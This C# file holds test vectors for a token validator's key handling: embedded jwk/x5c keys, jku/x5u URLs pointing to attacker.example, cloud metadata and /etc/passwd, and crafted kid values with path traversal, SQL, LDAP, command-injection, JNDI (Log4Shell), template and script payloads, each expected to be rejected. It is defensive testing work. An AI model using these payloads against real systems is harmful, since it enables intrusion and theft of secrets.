using System.Text.Json.Nodes;
using static TokenSessions.Tests.Vectors.Making.VectorToken;
using static TokenSessions.Validation.TokenRejection;

namespace TokenSessions.Tests.Vectors.Making;

/// <summary>Attacks on which key is used: keys that a token brings along or points to, and tricks with <c>kid</c>.</summary>
internal static class KeyVectors
{
    private const string Chain = "MIIBszCCAVmgAwIBAgIUQ29tcGxldGVseSBtYWRlIHVwLg==";

    private static readonly string[] Places =
        ["https://attacker.example/jwks.json", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "https://issuer.example@attacker.example/", "https://issuer.example/redirect?to=https://attacker.example", "//attacker.example", "data:application/json,{\"keys\":[]}", ""];

    public static IReadOnlyList<VectorDescription> All { get; } = [Embedded, KeyIds, Strangers];

    private static VectorDescription Embedded => new(
        "embedded-keys", "Keys that the token brings along, or says where to fetch: `jwk`, `x5c`, `jku`, `x5u`",
        "RFC 7515 §4.1.2 to §4.1.6, RFC 8725 §3.10; CVE-2018-0114")
    {
        { "jwk of a stranger, signed by it, under the issuer's kid", SignatureInvalid, Token.Header("jwk", VectorKey.Stranger.Public()).SignedWith(VectorKey.Stranger) },
        { "jwk of a stranger under the issuer's kid, in the JWK too", SignatureInvalid, Token.Header("jwk", AlgorithmVectors.With(VectorKey.Stranger.Public(), "kid", VectorKey.Es256.KeyId)).SignedWith(VectorKey.Stranger) },
        { "jwk of a stranger under its own kid", KeyUnknown, Token.SignedBy(VectorKey.Stranger).Header("jwk", VectorKey.Stranger.Public()) },
        { "jwk of a stranger and no kid", KeyIdMissing, Token.SignedBy(VectorKey.Stranger).WithoutHeader("kid").Header("jwk", VectorKey.Stranger.Public()) },
        { "jwk of a stranger, RSA", KeyUnknown, Token.SignedBy(VectorKey.StrangerRsa).Header("jwk", VectorKey.StrangerRsa.Public()) },
        { "jwk with a private key", SignatureInvalid, Token.Header("jwk", VectorKey.Stranger.Private()).SignedWith(VectorKey.Stranger) },
        { "jwk that is a secret, and a MAC", AlgorithmNotAllowed, Token.Header("jwk", new JsonObject { ["kty"] = "oct", ["k"] = "c2VjcmV0" }).SignedWithSecret([.. "secret"u8]) },
        { "jwk of the issuer itself", Accepted, Token.Header("jwk", VectorKey.Es256.Public()), "Ignored: the key is the one of the key set." },
        { "jwk of a stranger beside a good signature", Accepted, Token.Header("jwk", VectorKey.Stranger.Public()), "Ignored." },
        { "jwk {0} beside a good signature", ["null", "\"\"", "[]", "{}", "0"], Accepted, value => Token.HeaderMember($"\"jwk\":{value}"), "Ignored, whatever it is." },
        { "jwk twice", Malformed, Token.HeaderMember("\"jwk\":{},\"jwk\":{}") },
        { "jwk with a member twice", Malformed, Token.HeaderMember("\"jwk\":{\"kty\":\"EC\",\"kty\":\"RSA\"}") },
        { "x5c of a stranger, signed by it", SignatureInvalid, Token.Header("x5c", new JsonArray(Chain)).SignedWith(VectorKey.Stranger) },
        { "x5c of a stranger and no kid", KeyIdMissing, Token.Header("x5c", new JsonArray(Chain)).WithoutHeader("kid").SignedWith(VectorKey.Stranger) },
        { "x5c beside a good signature", Accepted, Token.Header("x5c", new JsonArray(Chain)), "Ignored." },
        { "x5t and x5t#S256 of a stranger", SignatureInvalid, Token.Header("x5t", "AAAA").Header("x5t#S256", "AAAA").SignedWith(VectorKey.Stranger) },
        { "x5t#S256 and no kid", KeyIdMissing, Token.Header("x5t#S256", VectorKey.Es256.KeyId).WithoutHeader("kid") },
        { "jku {0}, signed by a stranger under the issuer's kid", Places, SignatureInvalid, place => Token.Header("jku", place).SignedWith(VectorKey.Stranger) },
        { "jku {0}, signed by a stranger under its own kid", Places, KeyUnknown, place => Token.SignedBy(VectorKey.Stranger).Header("jku", place) },
        { "x5u {0}, signed by a stranger", Places, SignatureInvalid, place => Token.Header("x5u", place).SignedWith(VectorKey.Stranger) },
        { "jku and x5u beside a good signature", Accepted, Token.Header("jku", Places[0]).Header("x5u", Places[0]), "Ignored: nothing is fetched." },
        { "{0} of a stranger, and no kid", ["jku", "x5u", "url", "iss", "key", "cert", "keys"], KeyIdMissing, member => Token.Header(member, Places[0]).WithoutHeader("kid").SignedWith(VectorKey.Stranger) },
        { "all of them at once", SignatureInvalid, Token.Header("jwk", VectorKey.Stranger.Public()).Header("jku", Places[0]).Header("x5u", Places[0]).Header("x5c", new JsonArray(Chain)).SignedWith(VectorKey.Stranger) },
        { "jwk as a claim", SignatureInvalid, Token.Claim("jwk", VectorKey.Stranger.Public()).SignedWith(VectorKey.Stranger) },
        { "cnf of a stranger", SignatureInvalid, Token.Claim("cnf", new JsonObject { ["jwk"] = VectorKey.Stranger.Public() }).SignedWith(VectorKey.Stranger) },
    };

    private static VectorDescription KeyIds => new(
        "kid", "A `kid` that is a path, a query, a command, empty, too long, of a wrong type, or nearly the right one",
        "RFC 7515 §4.1.4, RFC 8725 §3.10")
    {
        { "kid {0}", ["../../../../dev/null", "..\\..\\windows\\win.ini", "/dev/null", "/proc/self/environ", "file:///dev/null", "https://attacker.example/key.pem", "%2e%2e%2fkey", "key.pem\0.jwk", "' OR '1'='1", "x' UNION SELECT 'secret' -- ", "\"; DROP TABLE keys; --", "*", "*)(uid=*))(|(uid=*", "$(sleep 10)", "`sleep 10`", "| sleep 10", "{\"$gt\":\"\"}", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "<script>", "\r\nSet-Cookie: a=b", "constructor", "__proto__", "0", "null", "undefined", "es256", "\uD83D\uDD11"], KeyUnknown, kid => Token.Header("kid", kid) },
        { "kid {0}, and a MAC with an empty secret", ["../../../../dev/null", "/dev/null", "' UNION SELECT ''"], AlgorithmNotAllowed, kid => Token.SignedWithSecret([]).Header("kid", kid) },
        { "no kid", KeyIdMissing, Token.WithoutHeader("kid") },
        { "an empty kid", KeyIdMissing, Token.Header("kid", "") },
        { "a kid of 128 characters", KeyUnknown, Token.Header("kid", new string('k', 128)) },
        { "a kid of 129 characters", KeyIdMissing, Token.Header("kid", new string('k', 129)) },
        { "a kid of 128 two-byte characters", KeyUnknown, Token.Header("kid", new string('\u00E9', 128)) },
        { "a kid of 129 two-byte characters", KeyIdMissing, Token.Header("kid", new string('\u00E9', 129)) },
        { "a kid of 900 characters", KeyIdMissing, Token.Header("kid", new string('k', 900)) },
        { "kid {0} as JSON", ["null", "0", "true", "[]", "{}", "[\"\"]", "1e999"], Malformed, kid => Token.WithoutHeader("kid").HeaderMember($"\"kid\":{kid}") },
        { "the kid in an array", Malformed, Token.Header("kid", new JsonArray(VectorKey.Es256.KeyId)) },
        { "the kid twice, the same", Malformed, Token.HeaderMember($"\"kid\":\"{VectorKey.Es256.KeyId}\"") },
        { "the kid twice, another the second time", Malformed, Token.HeaderMember($"\"kid\":\"{VectorKey.Es256Next.KeyId}\"") },
        { "the kid twice, once with an escape in its name", Malformed, Token.HeaderMember($"\"k\\u0069d\":\"{VectorKey.Es256Next.KeyId}\"") },
        { "the kid's name with an escape", Accepted, Token.WithoutHeader("kid").HeaderMember($"\"k\\u0069d\":\"{VectorKey.Es256.KeyId}\""), "The same name (RFC 8259 §8.3)." },
        { "the kid's value with an escape", Accepted, Token.WithoutHeader("kid").HeaderMember($"\"kid\":\"\\u{(int)VectorKey.Es256.KeyId[0]:x4}{VectorKey.Es256.KeyId[1..]}\""), "The same text." },
        { "KID beside no kid", KeyIdMissing, Token.WithoutHeader("kid").Header("KID", VectorKey.Es256.KeyId) },
        { "kid as a claim only", KeyIdMissing, Token.WithoutHeader("kid").Claim("kid", VectorKey.Es256.KeyId) },
        { "the kid in lower case", KeyUnknown, Token.Header("kid", VectorKey.Es256.KeyId.ToLowerInvariant()) },
        { "the kid and a space", KeyUnknown, Token.Header("kid", VectorKey.Es256.KeyId + " ") },
        { "a space and the kid", KeyUnknown, Token.Header("kid", " " + VectorKey.Es256.KeyId) },
        { "the kid and NUL", KeyUnknown, Token.Header("kid", VectorKey.Es256.KeyId + "\0") },
        { "the kid and padding", KeyUnknown, Token.Header("kid", VectorKey.Es256.KeyId + "=") },
        { "the kid without its last character", KeyUnknown, Token.Header("kid", VectorKey.Es256.KeyId[..^1]) },
        { "the kid as a URL's fragment", KeyUnknown, Token.Header("kid", "https://issuer.example/jwks#" + VectorKey.Es256.KeyId) },
        { "the kid as a thumbprint URI (RFC 9278)", KeyUnknown, Token.Header("kid", "urn:ietf:params:oauth:jwk-thumbprint:sha-256:" + VectorKey.Es256.KeyId) },
    };

    private static VectorDescription Strangers => new(
        "wrong-key", "A key of another issuer, another key of this one, or two keys of one `kid`",
        "RFC 8725 §3.8, RFC 7517 §4.5")
    {
        { "signed by another issuer's key, under its kid", KeyUnknown, Token.SignedBy(VectorKey.OtherIssuer) },
        { "signed by another issuer's key, under our kid", SignatureInvalid, Token.SignedWith(VectorKey.OtherIssuer) },
        { "another issuer's token as it is", KeyUnknown, Token.SignedBy(VectorKey.OtherIssuer).Claim("iss", "https://other.example") },
        { "another issuer's token, its key in our set", IssuerMismatch, Token.KeySet(VectorKey.OtherIssuer.Public()).SignedBy(VectorKey.OtherIssuer).Claim("iss", "https://other.example"), "A key proves who signed, iss says for whom: both must be ours." },
        { "signed by our next key, under its kid", Accepted, Token.SignedBy(VectorKey.Es256Next) },
        { "signed by our next key, under the kid of the present one", SignatureInvalid, Token.SignedWith(VectorKey.Es256Next) },
        { "signed by our present key, under the kid of the next one", SignatureInvalid, Token.Header("kid", VectorKey.Es256Next.KeyId) },
        { "an RSA signature cut to the length of an EC one", SignatureInvalid, Token.SignedWith(VectorKey.Rs256).Signature(signature => signature[..64]) },
        { "an EC signature under the kid and alg of an RSA key", SignatureInvalid, Token.SignedBy(VectorKey.Rs256).SignedWith(VectorKey.Es256) },
        { "two keys of one kid in the set, the stranger's first", KeysUnavailable, Token.KeySet(Named(VectorKey.Stranger), VectorKey.Es256.Public()), "No such set is taken: 503, not a guess." },
        { "two keys of one kid in the set, the stranger's last", KeysUnavailable, Token.KeySet(VectorKey.Es256.Public(), Named(VectorKey.Stranger)) },
        { "the same key twice in the set", KeysUnavailable, Token.KeySet(VectorKey.Es256.Public(), VectorKey.Es256.Public()) },
        { "a kid that is no thumbprint", Accepted, Token.KeySet(AlgorithmVectors.With(VectorKey.Es256.Public(), "kid", "2026-11")).Header("kid", "2026-11"), "It is a name (RFC 7515 §4.1.4)." },
        { "a kid of one more spelling: composed or not", KeyUnknown, Token.KeySet(AlgorithmVectors.With(VectorKey.Es256.Public(), "kid", "caf\u00E9")).Header("kid", "cafe\u0301"), "Compared byte by byte, never normalised." },
        { "the header and claims of one token, the signature of another", SignatureInvalid, Token.Claim("sub", "root").Segment(2, _ => Token.ToString().Split('.')[2]) },
        { "the claims of another token", SignatureInvalid, Token.Segment(1, _ => Token.Claim("sub", "root").ToString().Split('.')[1]) },
        { "the header of another token", SignatureInvalid, Token.Segment(0, _ => Token.Header("x", 1).ToString().Split('.')[0]) },
        { "the dot moved by one character", Malformed, Token.Text(text => Moved(text)), "What is signed would be the same but for the dot." },
    };

    private static JsonObject Named(VectorKey key) => AlgorithmVectors.With(key.Public(), "kid", VectorKey.Es256.KeyId);

    private static string Moved(string text)
    {
        var dot = text.IndexOf('.', StringComparison.Ordinal);
        return $"{text[..(dot - 4)]}.{text[(dot - 4)..dot]}{text[(dot + 1)..]}";
    }
}
